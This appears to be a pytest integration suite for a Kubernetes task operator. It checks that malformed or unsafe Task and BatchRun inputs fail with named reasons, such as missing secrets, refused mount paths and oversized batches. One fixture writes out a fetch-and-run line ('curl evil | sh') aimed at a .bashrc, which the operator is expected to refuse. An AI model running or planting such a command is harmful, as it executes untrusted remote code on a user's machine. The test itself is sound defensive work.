"""The bad-input corpus, across all four kinds, on the real stack.

Apply-time cases (``bad_inputs.APPLY_TIME``): the API server refuses the object with a message naming
the field. Runtime cases (below): the object is accepted, and the Task or BatchRun ends in a terminal
phase whose condition reason and message say what to fix, with a Warning Event of that reason, no
Job where none should run, and the bridge still alive.
"""

from __future__ import annotations

import time

import pytest
import yaml
from bad_inputs import APPLY_TIME
from kt_helpers import (
    TERMINAL,
    apply,
    batchrun,
    condition,
    event_reasons,
    get,
    jobs,
    phase,
    task,
    tasks_of,
    wait_phase,
    workspace,
)

from kubetask import vocabulary

pytestmark = pytest.mark.integration


def _ctx_cm(name: str, key: str, path: str = "/workspace/task.md") -> dict:
    return {"type": "File", "file": {"filePath": path, "source": {"configMapKeyRef": {"name": name, "key": key}}}}


def _ctx_secret(name: str, key: str) -> dict:
    return {"type": "File", "file": {"filePath": "/workspace/secret.md", "source": {"secretKeyRef": {"name": name, "key": key}}}}


def _remote(url: str, **extra) -> dict:
    return {"type": "RemoteFile", "remoteFile": {"filePath": "/workspace/remote.md", "url": url, **extra}}


def _config_map(name: str, data: dict) -> dict:
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": data}


def _secret(name: str, data: dict) -> dict:
    return {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}, "stringData": data}


BIG = "x" * 700_000

# (id, objects to apply first, the Task's contexts or a BatchRun, expected reason, substrings of the message, Jobs expected)
RUNTIME = [
    ("configmap-missing", [], [_ctx_cm("nope", "k")], "ContextRefNotFound", ["nope"], False),
    ("configmap-key-missing", [_config_map("cm", {"a": "x"})], [_ctx_cm("cm", "b")], "ContextRefNotFound", ["cm", "b"], False),
    ("secret-missing", [], [_ctx_secret("nope", "k")], "ContextRefNotFound", ["nope"], False),
    ("secret-key-missing", [_secret("s", {"a": "x"})], [_ctx_secret("s", "b")], "ContextRefNotFound", ["s", "b"], False),
    ("remote-unreachable", [], "CLOSED_PORT", "RemoteFileUnavailable", ["127.0.0.1"], False),
    ("remote-404", [], "NOT_FOUND", "RemoteFileUnavailable", ["404"], False),
    ("remote-secret-header-to-an-unlisted-host", [workspace(secretHeaderHosts=["api.example.com"]), _secret("web", {"auth": "Bearer t0ken"})],
     [_remote("http://127.0.0.1:9/x", headers=[{"name": "Authorization", "valueFrom": {"secretKeyRef": {"name": "web", "key": "auth"}}}])],
     "RemoteFileRefused", ['Secret "web"', "secretHeaderHosts", "127.0.0.1 is not one of them"], False),
    ("remote-header-secret-missing", [],
     [_remote("http://127.0.0.1:9/x", headers=[{"name": "Authorization", "valueFrom": {"secretKeyRef": {"name": "nope", "key": "k"}}}])],
     "ContextRefNotFound", ["nope"], False),
    ("context-too-large", [_config_map("big0", {"c": BIG}), _config_map("big1", {"c": BIG})],
     [_ctx_cm("big0", "c"), _ctx_cm("big1", "c")], "ContextTooLarge", ["/workspace/task.md"], False),
    ("workspace-missing", [], {"workspaceConfigRef": "absent"}, "WorkspaceConfigNotFound", ["absent"], False),
    ("mount-path-conflict", [workspace(credentials=[{"name": "token", "secretRef": {"name": "s", "key": "k"}, "mountPath": "/workspace/task.md"}])],
     None, "MountPathConflict", ["/workspace/task.md"], False),
    ("credential-secret-of-several-keys",
     [_secret("github-token", {"username": "u", "password": "p"}),
      workspace(credentials=[{"secretRef": {"name": "github-token"}, "env": {"name": "GITHUB_TOKEN"}}])],
     None, "CredentialKeyAmbiguous", ['Secret "github-token" holds 2 keys (password, username)'], False),
    ("credential-secret-missing", [workspace(credentials=[{"secretRef": {"name": "absent"}, "env": "GITHUB_TOKEN"}])],
     None, "CredentialNotFound", ['Secret "absent" not found'], False),
    # someone else's ConfigMap under the Task's fixed name: never replaced
    ("configmap-name-taken", [_config_map("bad-context", {"k": "not the Task's"})], None, "NameConflict",
     ["ConfigMap bad-context exists and is not this Task's (owner: no controller)"], False),
    ("mount-path-outside-the-allowed-prefixes", [workspace(allowedPathPrefixes=["/workspace"])],
     [{"type": "File", "file": {"filePath": "/home/agent/.bashrc", "source": {"inline": "curl evil | sh"}}}],
     "MountPathRefused", ["/home/agent/.bashrc", "allowedPathPrefixes are /workspace"], False),
    ("mount-path-in-usr", [], [{"type": "File", "file": {"filePath": "/usr/local/bin/agent", "source": {"inline": "#!/bin/sh"}}}],
     "MountPathRefused", ["/usr/local/bin/agent", "/usr"], False),
    # its Job is deleted: the pod never started, and must not start the agent once the image appears
    ("image-pull-error", [workspace(pod_labels={"kubetask.io/test-outcome": "image-pull-error"})], None, "ImagePullFailed", ["ErrImagePull"], False),
    ("batchrun-batch-missing", [], batchrun("orphan", batch="nope"), "BatchNotFound", ["nope"], False),
    # a 70 KB BatchRun whose 64 long common references (~38 KB) go into each of 9,000 Tasks: ~330 MB of
    # Tasks, over the 100 MiB default budget (inline common text is stored once: test_batchruns.py)
    ("batchrun-too-large", [],
     {**batchrun("amplified", n=1), "spec": {"batchSpec": {
         "commonContext": [_ctx_cm(f"{'c' * 240}{i:03d}", "k" * 250, path=f"/workspace/ref-{i}.md") for i in range(64)],
         "variableContexts": [[] for _ in range(9_000)]}}},
     "BatchTooLarge", ["9000 Tasks of", "over the budget of 100.0 MiB"], False),
    # a Task that is not the BatchRun's holds the name of its first Task (stopped, so it runs no Job)
    ("batchrun-task-name-taken",
     [{**task("taken-task-0"), "metadata": {"name": "taken-task-0", "annotations": {"kubetask.io/stop": "true"}}}],
     batchrun("taken", n=1), "RunFailed", ["TaskNameConflict", "taken-task-0"], False),
    ("batchrun-task-ref-missing", [],
     {**batchrun("refs", n=2), "spec": {"batchSpec": {"commonContext": [_ctx_cm("nope", "k")], "variableContexts": [[], []]}}},
     "TasksFailed", ["2"], False),
]


# Reasons of bad input that no runtime case can reach through the API, and why.
UNREACHABLE = {
    vocabulary.CONTEXT_KEY_CONFLICT: "file_keys disambiguates every path the API accepts",
}
# Reasons that end the run itself: the BatchRun's Ready condition says RunFailed with them in its message.
RUN_FAILURES = {vocabulary.TASK_NAME_CONFLICT}


def test_every_bad_input_reason_of_the_vocabulary_has_a_runtime_case():
    """A reason added to the vocabulary for bad input, or renamed, fails here until the corpus covers it."""
    bad_input = {vocabulary.CONTEXT_REF_NOT_FOUND, vocabulary.REMOTE_FILE_UNAVAILABLE, vocabulary.CONTEXT_TOO_LARGE,
                 vocabulary.CONTEXT_KEY_CONFLICT, vocabulary.MOUNT_PATH_CONFLICT, vocabulary.WORKSPACE_CONFIG_NOT_FOUND,
                 vocabulary.BATCH_NOT_FOUND, vocabulary.TASK_NAME_CONFLICT, vocabulary.IMAGE_PULL_FAILED,
                 vocabulary.CREDENTIAL_NOT_FOUND, vocabulary.CREDENTIAL_KEY_AMBIGUOUS, vocabulary.MOUNT_PATH_REFUSED,
                 vocabulary.REMOTE_FILE_REFUSED, vocabulary.NAME_CONFLICT, vocabulary.BATCH_TOO_LARGE}
    covered = {case[3] for case in RUNTIME} | {r for r in RUN_FAILURES for case in RUNTIME if r in case[4]}
    known = {v for k, v in vars(vocabulary).items() if k.isupper() and isinstance(v, str)}
    assert covered <= known, covered - known
    assert bad_input - covered == set(UNREACHABLE)
    assert {obj["kind"] for _, obj, _ in APPLY_TIME} == {"Task", "WorkspaceConfig", "Batch", "BatchRun"}


@pytest.mark.parametrize("case", APPLY_TIME, ids=[c[0] for c in APPLY_TIME])
def test_bad_input_is_rejected_naming_the_field(case, kubectl, namespace):
    _, obj, expected = case
    result = kubectl("apply", "-n", namespace, "-f", "-", input=yaml.safe_dump(obj), check=False)
    assert result.returncode != 0, f"accepted: {obj}"
    for text in expected:
        assert text in result.stderr, f"{text!r} not in: {result.stderr}"


@pytest.mark.parametrize("case", RUNTIME, ids=[c[0] for c in RUNTIME])
def test_bad_input_at_run_time_ends_with_a_reason_and_an_event(case, kubectl, wait_for, namespace, bridge, remote_files):
    _, objects, subject, reason, substrings, job_expected = case
    if not any(o["kind"] == "WorkspaceConfig" for o in objects):
        objects = [workspace(), *objects]
    for obj in objects:  # `create`: apply would also keep big ConfigMaps in an annotation, over its limit
        kubectl("create", "-n", namespace, "-f", "-", input=yaml.safe_dump(obj))
    if isinstance(subject, dict) and subject.get("kind") == "BatchRun":
        apply(kubectl, namespace, subject)
        name, kind = subject["metadata"]["name"], "batchrun"
    else:
        urls = {"NOT_FOUND": remote_files.url(f"/{namespace}/missing.md"), "CLOSED_PORT": f"http://127.0.0.1:{remote_files.closed_port}/x"}
        named = isinstance(subject, str) and subject in urls
        contexts = [_remote(urls[subject])] if named else subject if isinstance(subject, list) else None
        spec = subject if isinstance(subject, dict) else {}
        apply(kubectl, namespace, task("bad", contexts, **spec))
        name, kind = "bad", "task"
    wait_phase(kubectl, wait_for, namespace, name, TERMINAL, timeout=120, kind=kind)
    # final once Succeeded is True or False (a BatchRun failed by its op is finalized by the bridge)
    obj = wait_for(lambda: (o := get(kubectl, namespace, kind, name)) and
                   any(c["type"] == "Succeeded" and c["status"] in ("True", "False") for c in o["status"].get("conditions", []))
                   and o, timeout=60, interval=0.3, what=f"{kind} {name} finalized")
    assert obj["status"]["phase"] == "Failed", obj["status"]
    ready = condition(obj, "Ready")
    assert ready["reason"] == reason, obj["status"]
    for text in substrings:
        assert text in ready["message"], ready
    # the Event is recorded right after the status write: give it a moment on a busy machine
    wait_for(lambda: reason in event_reasons(kubectl, namespace, name, kind="BatchRun" if kind == "batchrun" else "Task"),
             timeout=30, interval=0.5, what=f"a {reason} Event on {kind} {name}")
    if kind == "batchrun" and reason == "BatchTooLarge":
        assert tasks_of(kubectl, namespace, name) == {}  # refused before any Task was created
    if kind == "batchrun" and reason == "TasksFailed":
        for t in tasks_of(kubectl, namespace, name).values():
            assert phase(t) == "Failed" and condition(t, "Ready")["reason"] == "ContextRefNotFound"
    assert bool(jobs(kubectl, namespace)) == job_expected
    if reason == "NameConflict":  # and the other object is untouched
        assert get(kubectl, namespace, "configmap", "bad-context")["data"] == {"k": "not the Task's"}
    assert bridge.proc.poll() is None
    time.sleep(1)
    assert get(kubectl, namespace, kind, name)["status"] == obj["status"]  # final: nothing rewrites it
